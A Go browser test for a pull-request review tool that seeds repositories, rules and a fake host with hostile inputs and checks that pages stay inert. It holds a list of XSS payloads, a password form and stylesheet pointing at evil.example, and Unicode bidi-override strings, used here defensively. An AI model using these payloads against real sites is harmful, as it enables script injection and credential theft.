//go:build browser

package browser

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/prwarden/prwarden/internal/dev/demo/stage"
	"github.com/prwarden/prwarden/internal/dev/program"
)

// hostile are texts of people who want a script to run, a form to leave, or a reader to
// read something else. Each script would set window.owned.
var hostile = []string{
	`<script>window.owned=1</script>`,
	`"><img src=x onerror=window.owned=1>`,
	`' onmouseover=window.owned=1 autofocus onfocus=window.owned=1 x='`,
	`</td></table></pre></textarea></title><svg onload=window.owned=1>`,
	`javascript:window.owned=1`,
	`<iframe srcdoc="<script>parent.owned=1</script>">`,
	`<form action=https://evil.example><input name=password>`,
	`<meta http-equiv=refresh content="0;url=javascript:window.owned=1">`,
	`<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>`,
	"&lt;script&gt;window.owned=1&lt;/script&gt;",
	"<!--", "]]>", "{{constructor.constructor('window.owned=1')()}}", "`${window.owned=1}`",
	"access\u202e\u2066// if admin\u2069 \u2066\u202c granted\u200b\u2028\u061c",
	"\x1b]0;owned\x07\x1b[31mred",
}

// notText are bytes that are no UTF-8.
const notText = "caf\xe9 \xff\xfe\xc0\x80 \xed\xa0\x80"

// gitPath quotes a path as git fast-import reads it.
func gitPath(path string) string {
	var s strings.Builder
	s.WriteByte('"')
	for _, c := range []byte(path) {
		if c < ' ' || c > '~' || c == '"' || c == '\\' {
			fmt.Fprintf(&s, `\%03o`, c)
		} else {
			s.WriteByte(c)
		}
	}
	s.WriteByte('"')

	return s.String()
}

// makeHostile makes a repository whose rules file, author, subjects, file names and lines
// are hostile. Its pull request 1 has a finding for each line.
func makeHostile(t *testing.T, path string) {
	t.Helper()
	var s strings.Builder
	commit := func(ref, from string) {
		author := "<b onclick=owned=1>\u202e"
		subject := strings.ReplaceAll(strings.Join(hostile[:2], " ")+hostile[14]+notText, "\n", " ")
		fmt.Fprintf(&s, "commit %s\ncommitter %s <a@example.com> 1700000000 +0000\ndata %d\n%s\n%s", ref,
			strings.NewReplacer("<", "", ">", "").Replace(author), len(subject), subject, from)
	}
	file := func(name, text string) {
		fmt.Fprintf(&s, "M 100644 inline %s\ndata %d\n%s\n", gitPath(name), len(text), text)
	}
	rules := map[string]any{"version": 1, "rules": []any{map[string]any{
		"id": "hostile", "type": "regex", "pattern": `owned=(?:1|['"<>&]+)`, "message": strings.Join(hostile[:15], " "),
		"severity": "high", "cases": map[string]any{"match": []string{hostile[0]}, "no_match": hostile[10:12]},
		"references": []string{`https://example.com/"><script>window.owned=1</script>`},
	}}}
	document, err := json.Marshal(rules)
	require.NoError(t, err)
	commit("refs/heads/main", "")
	file(".prwarden/rules.yml", string(document))

	commit("refs/pull/1/head", "from refs/heads/main\n")
	for i, name := range append(hostile, notText, `..\..\x`) {
		var text strings.Builder
		for j, line := range append(hostile, notText) {
			if i == j {
				fmt.Fprintf(&text, "// prwarden:ignore security/no-eval -- %s until %s\n", line, nextMonth())
			}
			fmt.Fprintf(&text, "eval(%s) // %s\n", line, line)
		}
		file(strings.ReplaceAll(fmt.Sprintf("%d%s.js", i, name), "//", "/"), text.String())
	}
	require.NoError(t, program.MakeRepository(t.Context(), path, s.String()))
}

// newHostileSite starts a server with a hostile repository, and a connection to a host
// whose every answer is hostile.
func newHostileSite(t *testing.T) *site {
	t.Helper()
	dir := t.TempDir()
	i, err := stage.Install(t.Context(), binary, dir)
	require.NoError(t, err)
	makeHostile(t, filepath.Join(dir, "repos", "acme", "hostile.git"))
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(map[string]string{"message": strings.Join(hostile, " ")})
	}))
	t.Cleanup(host.Close)
	token := filepath.Join(dir, "token")
	require.NoError(t, os.WriteFile(token, []byte("a-token-of-the-host"), 0o600))
	file, err := os.OpenFile(i.Config(), os.O_APPEND|os.O_WRONLY, 0)
	require.NoError(t, err)
	_, err = fmt.Fprintf(file, "connections:\n  - {organization: %s, name: hostile, kind: gitea, url: %q, git_url: %q,\n"+
		"     repositories: [\"evil/*\"], token_file: %q, webhook_secret_file: %q}\n", org, host.URL, host.URL+"/{repo}.git", token, token)
	require.NoError(t, err)
	require.NoError(t, file.Close())

	return serve(t, i)
}

func nextMonth() string { return time.Now().AddDate(0, 1, 0).Format(time.DateOnly) }

// call makes a call of the API that has to succeed.
func (s *site) call(t *testing.T, method, path string, body any) (answer map[string]any) {
	t.Helper()
	text, err := json.Marshal(body)
	require.NoError(t, err)
	got, err := s.api.Call(t.Context(), method, path, string(text))
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(got, &answer))

	return answer
}

// harmless fails when a text became part of the page, or turns its other texts around.
func (b *tab) harmless(name string) {
	b.t.Helper()
	var found []string
	b.run(chromedp.Evaluate(`(() => {
		const bad = [...document.querySelectorAll('iframe, svg[onload], img, meta[http-equiv], base, object, embed, ' +
			'script:not([src^="/assets/"]), link[rel=stylesheet]:not([href^="/assets/"]), form[action*="evil"], [href^="javascript:" i]')];
		const all = [...document.querySelectorAll('*')];
		bad.push(...all.filter((e) => [...e.attributes].some((a) => /^(on|style$|srcdoc$)/.test(a.name))));
		const texts = [document.title, document.body.innerText,
			...all.flatMap((e) => ['title', 'aria-label'].map((a) => e.getAttribute(a) ?? ''))];
		const odd = /[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f\x7f]/g;
		const turns = texts.filter((t) => t.search(odd) >= 0);
		return [...('owned' in window ? ['a script ran'] : []), ...bad.map((e) => e.outerHTML.slice(0, 200)),
			...turns.map((t) => 'hidden: ' + t.replace(odd, (c) => '[U+' + c.codePointAt(0).toString(16) + ']').match(/.{0,60}\[U\+.{0,60}/)[0])];
	})()`, &found))
	assert.Empty(b.t, found, name)
}

// Nothing that comes from repositories, keys, rules and hosts runs on a page, whatever it
// is made of, nor makes the content policy report anything.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	s := newHostileSite(t)
	b := s.newTab(t)
	b.setUp()
	b.open("/account")
	b.fill(`form[action$="/account/name"] [name=name]`, hostile[0])
	b.click(`form[action$="/account/name"] button`)
	b.sees("Your name is changed.")

	admin, err := s.Command(t.Context(), "keys", "create", "--org", org, "--name", hostile[1], "--rate-limit", "1000000",
		"--scopes", "reviews:read,reviews:write,rules:read,rules:write,findings:triage,policy:write")
	require.NoError(t, err)
	s.api.Token = admin
	rule := map[string]any{
		"id": "own", "type": "regex", "pattern": `eval\(['"<>&\x{202e}]`, "message": strings.Join(hostile[:15], " "),
		"severity": "low", "cases": map[string]any{"match": []string{`eval(` + hostile[1]}, "no_match": hostile[:1]},
		"references": []string{"https://example.com/?q=%3Cscript%3E", `https://example.com/"><script>window.owned=1</script>`},
		"paths":      map[string]any{"include": []string{"**/*", hostile[1]}},
	}
	s.call(t, http.MethodPost, "/v1/rules", rule)
	rule["id"], rule["references"] = "other", []string{hostile[4]}
	text, err := json.Marshal(rule)
	require.NoError(t, err)
	_, err = s.api.Call(t.Context(), http.MethodPost, "/v1/rules", string(text))
	require.ErrorContains(t, err, "references[0]")

	id := s.reviewOf(t, "acme/hostile", 1)
	var listed struct {
		Findings []struct{ Fingerprint string }
	}
	answer, err := s.api.Call(t.Context(), http.MethodGet, "/v1/reviews/"+id+"/findings", "")
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(answer, &listed))
	require.NotEmpty(t, listed.Findings)
	for i, reason := range hostile[:5] {
		s.call(t, http.MethodPost, "/v1/findings:triage", map[string]any{
			"repo": "acme/hostile", "pr_number": 1, "fingerprints": []string{listed.Findings[i].Fingerprint},
			"decision": "false_positive", "reason": reason + hostile[14], "until": nextMonth(),
		})
	}

	b.open("/o/" + org + "/settings/connections")
	b.click(`a[aria-label="Open hostile"]`)
	b.run(chromedp.WaitVisible(`form[action$="/test"] button`, chromedp.ByQuery))
	var connection string
	b.run(chromedp.Location(&connection))
	b.click(`form[action$="/test"] button`)
	b.sees("it doesn't work")
	b.harmless("tested")
	at, err := url.Parse(connection)
	require.NoError(t, err)

	review := "/o/" + org + "/reviews/" + id
	paths := []string{at.Path + "/repositories", at.Path + "/pulls", "/account"}
	for _, state := range []string{"open", "new", "suppressed", "decided", "skipped"} {
		paths = append(paths, review+"?state="+state)
	}
	for _, text := range hostile[:5] {
		paths = append(paths, review+"?file="+url.QueryEscape(text)+"&rule="+url.QueryEscape(text))
		for _, list := range []string{"reviews", "findings", "repositories", "rules", "go"} {
			paths = append(paths, "/o/"+org+"/"+list+"?q="+url.QueryEscape(text))
		}
	}
	for _, path := range []string{
		"/reviews", "/findings", "/findings?group=file", "/findings?group=list", "/findings?group=repo", "/repositories",
		"/repositories/acme/hostile", "/rules?ruleset=custom", "/rules?ruleset=acme/hostile", "/rules/custom/own",
		"/rules/custom/own/edit", "/rules/custom/hostile?ruleset=acme/hostile", "/trends", "/settings/keys", "/settings/members",
		"/settings/connections", "/audit",
	} {
		paths = append(paths, "/o/"+org+path)
	}
	for _, path := range paths {
		b.open(path)
		b.settle()
		b.harmless(path)
	}
	b.quiet()
}
